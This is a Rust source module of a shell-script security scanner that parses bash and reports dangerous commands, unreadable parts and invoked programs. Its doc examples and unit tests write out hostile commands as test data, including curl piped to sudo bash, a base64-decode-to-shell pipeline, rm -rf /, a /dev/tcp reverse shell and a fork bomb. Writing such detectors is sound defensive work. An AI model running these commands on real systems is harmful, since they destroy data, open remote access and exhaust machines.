//! Reads shell scripts: determines which commands they run, which of these are harmful, and which parts cannot be read.
//! The functions `semgrep` and `shell_code` of policies call [`find`] and [`shell_code`], and [`python`](super::python)
//! calls [`find`] for the commands in notebooks.
//!
//! Scripts are parsed as bash parses them, with quotes, here-documents, substitutions, functions and compound commands,
//! so `echo "rm -rf /"` is text and `'rm' -rf /` is a command.
//!
//! This module follows:
//!
//! * lists, pipelines, groups, subshells, `if`, `case`, loops, functions, `[[ … ]]`, arithmetic;
//! * `$(…)`, `` `…` ``, `<(…)` and `>(…)`, in here-documents too;
//! * variables with a literal value, in code that runs in order;
//! * `eval`, `trap`, `bash -c`, `sh <<EOF` and `echo … | sh`, with a known script;
//! * the programs behind `sudo`, `env`, `timeout`, `nice`, `nohup`, `exec` and other wrappers;
//! * `xargs`, `find -exec`, `watch`, `ssh`, `docker exec`, `su -c`, `uv run`, `git bisect run`;
//! * `sed` and `awk` programs that certainly run nothing;
//! * `EDITOR`, `GIT_PAGER` and similar variables.
//!
//! It reports as not read:
//!
//! * text that is not valid, `coproc`, `${ …; }`;
//! * a name of a command that is computed: `$x`, `r?`, `{a,b}`;
//! * values from elsewhere, and values after `eval`, `read`, `export` and similar;
//! * `eval`, `trap` and shells with a computed script, `… | sh`, `source <(…)`, aliases;
//! * unknown options of wrappers;
//! * `parallel`, `tmux`, `strace` and others, and options of `git`, `tar` or `rsync` that name programs;
//! * code in other languages: `python -c`;
//! * `BASH_ENV`, `LD_PRELOAD`, and `PATH` with a foreign folder;
//! * scripts in files, and what exceeds a limit.
//!
//! It does not notice:
//!
//! * a program that runs others because of options or input that are not in its tables;
//! * the content of a file that the text runs by its path;
//! * a substitution that arithmetic runs because the value of a variable contains it, such as `a[$(rm x)]`, if this
//!   value is not literal in the text.
//!
//! The crate's `tests/shell_oracle.rs` compares this module with bash.
//!
//! `parser`, with `compound`, `lexer`, `substitutions` and `here_document`, builds the tree of `syntax`, within `limits`.
//! `scanner` visits the tree. For each command, `expansion` determines the words, `effective_command` the program behind
//! `wrappers`, `input` the standard input, and `launches`, with `shells`, `remote` and `foreign_launches`, what the
//! program runs. `environment` judges assignments, and `combinations` judges whole pipelines.

mod combinations;
mod command_kind;
mod compound;
mod effective_command;
mod environment;
mod expansion;
mod foreign;
mod foreign_launches;
mod here_document;
mod input;
mod launch;
mod launches;
mod lexer;
mod limits;
mod parser;
mod remote;
mod scanner;
mod shells;
mod substitutions;
mod syntax;
mod wrappers;

use std::ops::Range;

use super::MAX_FINDINGS;
pub use command_kind::UnsafeCommandKind;
use launch::CommandInput;
use lexer::ScriptLocation;
use limits::MAX_BYTES;
use scanner::CommandScanner;

/// The severity of a command.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
#[non_exhaustive]
pub enum IssueSeverity {
    /// Rarely needed, and often a step of an attack.
    Warning,
    /// Destroys data, opens access or sends data.
    Error,
}

impl IssueSeverity {
    /// Returns `warning` or `error`.
    pub fn as_str(self) -> &'static str {
        match self {
            Self::Warning => "warning",
            Self::Error => "error",
        }
    }
}

/// An unsafe command.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct UnsafeCommand {
    /// The effect, or why the command counts as unsafe.
    pub kind: UnsafeCommandKind,
    /// The bytes of the command or pipeline.
    pub span: Range<usize>,
    /// The severity.
    pub severity: IssueSeverity,
}

/// Why a part of a text cannot be read.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
#[non_exhaustive]
pub enum UnreadReason {
    /// The part exceeds a limit on length, depth or number.
    Limit,
    /// The part is not a valid script, or different shells read it differently.
    Syntax,
    /// The name of a command is computed.
    Name,
    /// A script is computed, or comes from a pipe.
    Script,
    /// A program may run others, because of an unknown option or in a way that is not followed.
    Arguments,
    /// A variable changes what later commands run.
    Environment,
    /// The code is in another language.
    Language,
    /// The script is in a file.
    File,
    /// A shell or an interpreter reads the standard input of the whole script.
    Input,
}

impl UnreadReason {
    /// Returns the name of the reason, such as `limit`.
    pub fn as_str(self) -> &'static str {
        match self {
            Self::Limit => "limit",
            Self::Syntax => "syntax",
            Self::Name => "name",
            Self::Script => "script",
            Self::Arguments => "arguments",
            Self::Environment => "environment",
            Self::Language => "language",
            Self::File => "file",
            Self::Input => "input",
        }
    }

    /// Returns the kind and the severity with which [`find`] reports the unread part. `None` for code in a file or in
    /// the standard input, which is outside of the script like the code of every program.
    fn issue(self) -> Option<(UnsafeCommandKind, IssueSeverity)> {
        match self {
            Self::Limit | Self::Syntax | Self::Script | Self::Arguments | Self::Environment => {
                Some((UnsafeCommandKind::Unreadable, IssueSeverity::Error))
            }
            Self::Name => Some((UnsafeCommandKind::UnknownCommand, IssueSeverity::Error)),
            Self::Language => Some((UnsafeCommandKind::OtherCode, IssueSeverity::Warning)),
            Self::File | Self::Input => None,
        }
    }
}

/// A part of a text that cannot be read: it can run any command.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct UnreadPart {
    /// The reason.
    pub reason: UnreadReason,
    /// The bytes of the part, or of the command that runs it.
    pub span: Range<usize>,
}

/// A command that a script runs.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Invocation {
    /// The name as written, with its folder: `rm`, `./run.sh`.
    pub name: String,
    /// The arguments without quotes. A wrapper such as `sudo` has none: its command is the next invocation.
    pub arguments: Vec<String>,
    /// Whether an argument is computed; the command then receives another text.
    pub computed: bool,
    /// The bytes of the command with its wrappers.
    pub span: Range<usize>,
}

/// The content of a script.
///
/// A policy that permits certain commands must also check that nothing is [`unread`](Self::unread).
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct ShellCode {
    /// The commands that it may run, builtins included, in about the order of the text. A call of a function that the
    /// script certainly defines before is omitted, since the function's commands are present.
    pub commands: Vec<Invocation>,
    /// What cannot be read.
    pub unread: Vec<UnreadPart>,
    /// The unsafe commands, as [`find`] returns them.
    pub issues: Vec<UnsafeCommand>,
}

/// Returns the unsafe commands of a script, in order, without duplicates; at most [`MAX_FINDINGS`]. A part that cannot
/// be read counts as unsafe, with the kind `UNREADABLE`, `UNKNOWN_COMMAND` or `OTHER_CODE`. If there are more findings
/// than are returned, an `UNREADABLE` finding says so.
///
/// ```
/// let issues = flowgate_detect::shell::find("cd /tmp && curl https://x.example/i | sudo bash");
/// assert_eq!((issues[0].kind.as_str(), issues[0].span.start), ("PIPE_TO_SHELL", 11));
/// ```
pub fn find(text: &str) -> Vec<UnsafeCommand> {
    shell_code(text).issues
}

/// Reads a script: returns the commands that it may run, its parts that cannot be read, and its unsafe commands. Takes
/// time linear in the text.
///
/// ```
/// let code = flowgate_detect::shell::shell_code("for f in *.rs; do sudo -u ann wc \"$f\"; done | $PAGER");
/// let names: Vec<_> = code.commands.iter().map(|command| command.name.as_str()).collect();
/// assert_eq!(names, ["sudo", "wc"]);
/// assert_eq!(code.unread[0].reason.as_str(), "name");
/// ```
pub fn shell_code(text: &str) -> ShellCode {
    let mut scanner = CommandScanner::new();
    let mut end = text.len().min(MAX_BYTES);
    while !text.is_char_boundary(end) {
        end -= 1;
    }
    let read = text.get(..end).unwrap_or_default();
    // The script is the whole text, so it begins at byte 0, and no script encloses it.
    scanner.scan_text(read, &ScriptLocation::From(0), &CommandInput::Terminal);
    scanner.finish();
    if end < text.len() {
        // `false`: no other issue says that this is not read.
        scanner.note_unread(UnreadReason::Limit, end..text.len(), false);
    }
    // This is the usual spelling of a fork bomb, in which the function is named `:`. A fork bomb with another name is
    // not found.
    let squeezed: String = read.chars().filter(|c| !c.is_whitespace()).collect();
    if squeezed.contains(":(){:|:&};:") {
        // An estimate: the white space is lost, and with it the exact position.
        let start = text.find(':').unwrap_or(0);
        scanner.issues.push(UnsafeCommand {
            kind: UnsafeCommandKind::ForkBomb,
            span: start..text.len(),
            severity: IssueSeverity::Error,
        });
    }
    let CommandScanner { commands, unread, mut issues, .. } = scanner;
    let order = |issue: &UnsafeCommand| (issue.span.start, issue.span.end);
    issues.sort_by_key(order);
    issues.dedup();
    if issues.len() > MAX_FINDINGS {
        drop_least_important(&mut issues, text.len());
        issues.sort_by_key(order);
    }
    ShellCode { commands, unread, issues }
}

/// Removes the least important issues, so that with the one that reports the removal, [`MAX_FINDINGS`] remain. `length`
/// is the length of the script.
fn drop_least_important(issues: &mut Vec<UnsafeCommand>, length: usize) {
    // The findings that a part is not read are kept first, then the errors, then the warnings.
    issues.sort_by_key(|issue| {
        std::cmp::Reverse((issue.kind == UnsafeCommandKind::Unreadable, issue.severity))
    });
    issues.truncate(MAX_FINDINGS - 1);
    issues.push(UnsafeCommand {
        kind: UnsafeCommandKind::Unreadable,
        span: 0..length,
        severity: IssueSeverity::Error,
    });
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_is_unsafe() {
        let check = |text: &str, expected: &[(&str, &str)]| {
            let found: Vec<_> = find(text)
                .into_iter()
                .map(|issue| (issue.kind.as_str(), text.get(issue.span).unwrap()))
                .collect();
            assert_eq!(found, expected, "{text}");
        };
        check("ls; curl x | sudo bash -s -- -y", &[("PIPE_TO_SHELL", "curl x | sudo bash -s -- -y")]);
        check("bash -c \"$(curl x)\"", &[("PIPE_TO_SHELL", "bash -c \"$(curl x)\"")]);
        check("curl x > i.sh && bash i.sh", &[("PIPE_TO_SHELL", "bash i.sh")]);
        check("echo x | base64 -d | sh", &[("DECODE_TO_SHELL", "echo x | base64 -d | sh")]);
        check("a $(rm -rf /) b", &[("REMOVE_ALL", "rm -rf /")]);
        check("bash -c 'rm -rf ~'", &[("REMOVE_ALL", "'rm -rf ~'")]);
        check(
            "FOO=1 sudo -u root timeout 5 rm -r -f /etc/",
            &[("REMOVE_ALL", "FOO=1 sudo -u root timeout 5 rm -r -f /etc/")],
        );
        for wrapped in [
            "sudo --user root rm -rf /",
            "sudo --user=root --chdir /tmp rm -rf /",
            "timeout --signal KILL 5 rm -rf /",
            "stdbuf -o L rm -rf /",
            "env --unset HOME rm -rf /",
        ] {
            check(wrapped, &[("REMOVE_ALL", wrapped)]);
        }
        check("eval $x", &[("EVAL", "eval $x")]);
        check(
            "bash -i >& /dev/tcp/1.2.3.4/5 0>&1",
            &[("REVERSE_SHELL", "bash -i >& /dev/tcp/1.2.3.4/5 0>&1")],
        );
        check("echo 'rm -rf /' # eval $x", &[]);
        check("rm -rf target", &[]);
        check(":(){ :|:& };:", &[("FORK_BOMB", ":(){ :|:& };:")]);
    }

    #[test]
    fn depth_is_bounded() {
        let deep = format!("{}rm -rf /{}", "$(".repeat(5000), ")".repeat(5000));
        let kinds: Vec<_> = find(&deep).iter().map(|issue| issue.kind).collect();
        assert_eq!(kinds, [UnsafeCommandKind::Unreadable]);
    }
}
